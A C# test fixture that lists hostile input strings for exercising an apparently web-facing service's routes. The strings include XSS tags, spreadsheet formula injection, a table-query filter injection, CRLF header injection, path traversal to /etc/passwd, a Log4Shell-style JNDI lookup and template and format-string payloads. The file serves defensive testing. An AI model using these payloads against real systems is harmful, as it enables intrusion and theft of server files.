namespace Mttx.Functions.Tests.Routes;

/// <summary>Texts that have broken other services.</summary>
internal static class HostileText
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://example.com\",\"x\")",
        "+1-1@SUM(A1)",
        "\u202Eyllanoitcerid\u202C",
        "null\0character",
        new string('x', 500),
        "😀👩‍👩‍👧‍👦 größer 安全 ﷽",
        "'\"`\\",
        "' or RowKey ne '",
        "{\"id\":1,\"name\":\"x\"}",
        "line\r\nX-Injected: yes",
        "../../../etc/passwd",
        "..%2F..%2Fetc%2Fpasswd",
        "%00%0d%0a%%",
        "${jndi:ldap://example.com/x} {0} {{7*7}} %s%n",
        " blanks around ",
        "\uFEFFbyte order mark",
        new string('y', 4_000),
    ];

    /// <summary>Too long for an address.</summary>
    public static string Huge { get; } = new('z', 40_000);
}
